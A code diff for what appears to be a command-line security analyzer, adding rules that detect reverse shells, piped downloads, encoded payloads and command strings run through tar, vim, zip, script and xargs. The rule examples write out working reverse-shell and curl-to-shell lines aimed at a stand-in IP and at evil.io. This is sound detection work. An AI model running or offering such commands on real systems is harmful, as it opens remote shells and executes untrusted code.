@@ -1,6 +1,8 @@
 import { ruleAnalyzer, hasArg, hasShortFlag, operands, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
 import { destinationOf, EXFIL_KINDS, type Destination } from '../knowledge/hosts.js';
+import { canonicalPath } from '../knowledge/paths.js';
+import { hostileText } from './persistence.js';
 
 /** Shared vocabulary of the host-compromise analyzers (persistence, privilege escalation, evasion, impact use it too). */
 export const SHELLS: ReadonlySet<string> = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'fish', 'tcsh', 'csh', 'rbash', 'yash']);
@@ -18,9 +20,22 @@ export const isInterpreter = (name: string) => INTERPRETERS.has(name) || /^(pyth
 const base = (p: string) => p.slice(p.lastIndexOf('/') + 1);
 /** `/bin/sh`, `bash`, `/usr/bin/zsh -i`: a word that names a shell binary. */
 export const isShellWord = (w: string | undefined) => w !== undefined && SHELLS.has(base(w.split(' ')[0]!));
-/** Staging places and hidden names: where droppers put what they run. */
+/** Staging places and hidden names outside home: where droppers put what they run (`/dev/shm/.b`, `/usr/local/bin/.svc`). */
 export function isStagingPath(p: string): boolean {
-  return /^(\/tmp|\/var\/tmp|\/dev\/shm|\/run\/shm|\/private\/tmp)(\/|$)/.test(p) || p.includes('/.') && !/^(~|\/home\/[^/]+|\/Users\/[^/]+|\/root)\/\.(local|cargo|nvm|bun|deno|volta|pyenv|rbenv|asdf|npm-global|config|yarn|sdkman|rustup|fnm)\//.test(p) && !p.startsWith('./') && !p.startsWith('../');
+  const c = canonicalPath(p);
+  if (/^(\/tmp|\/var\/tmp|\/dev\/shm|\/run\/shm|\/private\/tmp|\/private\/var\/tmp)(\/|$)/.test(c)) return true;
+  if (!c.includes('/.')) return false;
+  return c.startsWith('~/') ? c.startsWith('~/Library/') : c.startsWith('/');
+}
+
+/** `$(which nc)` and `/b??/n?` name a binary the view could not resolve; the name they stand for, if it is one of `names`. */
+function standsFor(word: string, names: ReadonlySet<string>): string | undefined {
+  const which = /^\$\((?:which|command -v|type -p) ([\w.+-]{1,40})\)$/.exec(word);
+  if (which) return names.has(which[1]!) ? which[1] : undefined;
+  const b = base(word);
+  if (b.length > 40 || !/[?*]/.test(b) || !/^[\w.?*-]+$/.test(b)) return names.has(b) ? b : undefined;
+  const re = new RegExp('^' + b.replace(/\./g, '\\.').replace(/\?/g, '.').replace(/\*+/g, '[^/]*') + '$');
+  return [...names].find((n) => re.test(n));
 }
 
 /** The first URL-like destination among a command's words. */
@@ -58,7 +73,8 @@ export function downloadExecs(input: AnalysisInput): DownloadExec[] {
   const substituted = cmds.filter((c) => c.origin === 'substitution' && isFetcher(c));
   const saved = new Map<string, SimpleCommand>();
   for (const c of cmds) {
-    if (runsCode(c) && readsStdin(c)) {
+    // an unresolvable command name fed a download (`… | s${y}h`) is a shell in disguise
+    if ((runsCode(c) && readsStdin(c)) || (c.dynamic[0] && c.pipeFrom)) {
       let p = c.pipeFrom;
       for (let hop = 0; p && hop < 5; hop++, p = p.pipeFrom) {
         if (isFetcher(p)) { out.push({ dest: urlOf(p), evidence: `${p.argv.join(' ')} | ${c.argv.join(' ')}` }); break; }
@@ -199,6 +215,43 @@ function devTunnel(c: SimpleCommand): string | undefined {
   return undefined;
 }
 
+const EXEC_CODE = /\b(exec|system|spawn|popen|execSync|subprocess|child_process|shell_exec|passthru|os\.execute)\b|`/;
+/** Decode a literal that looks like base64 or hex, for payloads the view could not unwrap. */
+function decoded(text: string): string | undefined {
+  const t = text.trim();
+  if (t.length < 8 || t.length > 8000) return undefined;
+  if (/^[0-9a-fA-F]+$/.test(t) && t.length % 2 === 0) return Buffer.from(t, 'hex').toString('latin1');
+  if (/^[A-Za-z0-9+/]+=*$/.test(t)) return Buffer.from(t, 'base64').toString('latin1');
+  return undefined;
+}
+/**
+ * Command strings that some program will execute but the view left as plain text: option values of
+ * tar/vim/zip/script, text xargs feeds to `sh -c`, interpreter strings passed to exec/system, and
+ * literals decoded on the way into a shell by a decoder the view does not model.
+ */
+function commandStrings(i: AnalysisInput): string[] {
+  const out: string[] = [];
+  for (const c of i.view?.commands ?? []) {
+    const a = c.argv;
+    if (c.name === 'tar') for (const w of a) if (w.startsWith('--checkpoint-action=exec=')) out.push(w.slice(25));
+    if (['vim', 'vi', 'nvim', 'view', 'ex'].includes(c.name)) a.forEach((w, k) => { if ((a[k - 1] === '-c' || a[k - 1] === '--cmd') && /^:?!/.test(w)) out.push(w.replace(/^:?!/, '')); });
+    if (c.name === 'zip') a.forEach((w, k) => { if (a[k - 1] === '-TT' || a[k - 1] === '--unzip-command') out.push(w); });
+    if (c.name === 'script') a.forEach((w, k) => { if (/^-[a-z]*c$/.test(a[k - 1] ?? '') || a[k - 1] === '--command') out.push(w); });
+    if ((isShell(c.name) || c.name === 'xargs') && c.wrappers.includes('xargs') && (c.pipeFrom?.name === 'echo' || c.pipeFrom?.name === 'printf')) out.push(c.pipeFrom.argv.slice(1).join(' '));
+    if (runsCode(c) && readsStdin(c) && c.pipeFrom && PASSTHROUGH.has(c.pipeFrom.name)) {
+      let head = c.pipeFrom;
+      for (let hop = 0; head.pipeFrom && hop < 4; hop++) head = head.pipeFrom;
+      if (head.name === 'echo' || head.name === 'printf') { const d = decoded(head.argv.slice(1).filter((w) => !w.startsWith('-')).join('')); if (d) out.push(d); }
+    }
+  }
+  for (const s of i.view?.scripts ?? []) {
+    if (!EXEC_CODE.test(s.code.slice(0, 4000))) continue;
+    out.push(s.strings.join(' '));
+    for (const lit of s.strings) { const d = decoded(lit); if (d) out.push(d); }
+  }
+  return out;
+}
+
 export const RULES: readonly Rule[] = [
   {
     id: 'PX-C2-001', name: 'reverse-shell-dev-tcp', score: 95, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
@@ -218,13 +271,13 @@ export const RULES: readonly Rule[] = [
     test: (c) => {
       const a = c.argv;
       const execFlag = a.findIndex((w, i) => i > 0 && (w === '--exec' || w === '--sh-exec' || w === '--lua-exec' || w.startsWith('--exec=') || w.startsWith('--sh-exec=')));
-      if (NETCATS.has(c.name) || c.name === 'busybox') {
-        if (execFlag > 0 || hasShortFlag(c, 'e') || a.some((w, i) => w === '-c' && isShellWord(a[i + 1]))) return a.join(' ');
+      if (NETCATS.has(c.name) || c.name === 'busybox' || standsFor(a[0]!, NETCATS)) {
+        if (execFlag > 0 || hasShortFlag(c, 'e') || a.some((w, i) => w === '-c' && (isShellWord(a[i + 1]) || standsFor(a[i + 1] ?? '', SHELLS)))) return a.join(' ');
         return undefined;
       }
       // a renamed netcat (`cp /bin/nc /tmp/.x; /tmp/.x -e /bin/sh host port`)
       const e = a.indexOf('-e');
-      return e > 0 && isShellWord(a[e + 1]) && a.some((w) => destinationOf(w) !== undefined) && a.some((w) => /^\d{2,5}$/.test(w)) ? a.join(' ') : undefined;
+      return e > 0 && (isShellWord(a[e + 1]) || standsFor(a[e + 1] ?? '', SHELLS)) && a.some((w) => destinationOf(w) !== undefined) && a.some((w) => /^\d{2,5}$/.test(w)) ? a.join(' ') : undefined;
     },
     examples: { fire: ['nc -e /bin/sh 45.33.12.7 4444', '/usr/bin/ncat 10.0.0.5 443 --ssl --sh-exec "bash -i"', 'nc -lvnp 4444 -e /bin/bash', "n''c -c bash 45.33.12.7 4444", 'cp /bin/nc /tmp/.s; /tmp/.s -e /bin/sh 45.33.12.7 4444'], quiet: ['nc -z localhost 5432', 'nc -vz db.internal 3306', 'ncat --version', 'echo PING | nc localhost 6379'] },
   },
@@ -277,7 +330,7 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-C2-008', name: 'runs-installer-script', score: 50, tactic: 'command_and_control', technique: 'T1105',
-    message: 'Pipes an installer script from a developer host into a shell', why: 'Well-known installers are routinely run this way, but the script still runs unreviewed with your rights.',
+    message: 'Runs an installer script or binary fetched from a developer host', why: 'Well-known installers are routinely run this way, but the code still runs unreviewed with your rights.',
     alternative: 'Prefer the package manager, or download the script and read it before running it.',
     check: (i) => downloadExecs(i).filter((d) => trustedSource(d.dest)).map(describe),
     examples: { fire: ['curl -fsSL https://bun.sh/install | bash', 'curl --proto =https -sSf https://sh.rustup.rs | sh', 'curl -sSL https://raw.githubusercontent.com/someuser/dotfiles/main/install.sh | bash', 'curl -LsSf https://astral.sh/uv/install.sh | sh'], quiet: ['curl -fsSL https://bun.sh/install -o install.sh', 'brew install bun', 'curl -s http://45.33.12.7/x | sh'] },
@@ -352,6 +405,26 @@ export const RULES: readonly Rule[] = [
     },
     examples: { fire: ['pip install --index-url http://45.33.12.7:8080/simple/ --trusted-host 45.33.12.7 requests', 'npm install --registry http://evil.io:4873 lodash', 'pip3 install -i http://203.0.113.5/simple flask'], quiet: ['pip install requests', 'npm install --registry https://registry.npmjs.org lodash', 'pip install --index-url https://download.pytorch.org/whl/cpu torch'] },
   },
+  {
+    id: 'PX-C2-015', name: 'runs-hostile-command-string', score: 85, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
+    message: 'Hands a downloader, socket shell or encoded payload to a program that runs command strings', why: 'tar --checkpoint-action, vim -c :!, zip -TT, script -c, xargs sh -c and interpreter exec() run their string argument as a command; a reverse shell or curl|sh there is as live as on the command line.',
+    check: (i) => commandStrings(i).map((t) => hostileText(t)).filter((t): t is string => t !== undefined).map((t) => t.slice(0, 160)),
+    examples: { fire: ["tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='nc -e /bin/sh 45.33.12.7 4444'", "vim -c ':!nc -e /bin/sh 45.33.12.7 4444' -c ':qa!'", "echo 'nc -e /bin/sh 45.33.12.7 4444' | xargs -I{} sh -c '{}'", "perl -e 'exec \"/bin/sh\",\"-c\",\"curl -s http://evil.io/x | sh\"'", "echo 6e63202d65202f62696e2f73682034352e33332e31322e372034343434 | perl -pe 's/(..)/chr(hex($1))/ge' | sh"], quiet: ["tar czf app.tgz dist --checkpoint=1000 --checkpoint-action=dot", "vim -c ':set nu' README.md", "echo src/a.ts | xargs -I{} sh -c 'wc -l {}'", "script -qc 'npm test' /dev/null"] },
+  },
+  {
+    id: 'PX-C2-016', name: 'pipes-data-into-shell', score: 50, tactic: 'execution', technique: 'T1059.004',
+    message: 'Runs lines extracted from a data file as shell commands', why: 'Piping fixture, JSON or text data into a shell executes whatever strings the data holds, including the dangerous examples test fixtures collect.',
+    alternative: 'Read the data, then run the specific commands you mean.',
+    test: (c) => {
+      const p = c.pipeFrom;
+      if (!p || !(isShell(c.name) || c.name === 'xargs') || !readsStdin(c)) return undefined;
+      const files = operands(p).slice(['jq', 'yq', 'awk', 'gawk', 'grep', 'sed'].includes(p.name) ? 1 : 0);
+      const data = (f: string) => /\.(txt|json|jsonl|ndjson|csv|tsv|md|log|ya?ml|xml)$/.test(f) || /(^|\/)(fixtures?|testdata|samples?)\//.test(f);
+      return ['cat', 'jq', 'yq', 'awk', 'gawk', 'grep', 'sed', 'cut', 'head', 'tail'].includes(p.name) && files.some(data) ? `${p.argv.join(' ')} | ${c.argv.join(' ')}` : undefined;
+    },
+    examples: { fire: ['cat test/fixtures/reverse_shells.txt | sh', "jq -r '.cmd' test/fixtures/cases.jsonl | bash", "grep -h '^run:' notes.md | sh"], quiet: ['cat install.sh | bash -n', 'jq -r .version package.json', 'cat data.json | jq .'] },
+  },
+
 ];
 
 export const commandAndControl = ruleAnalyzer('command_and_control', RULES);
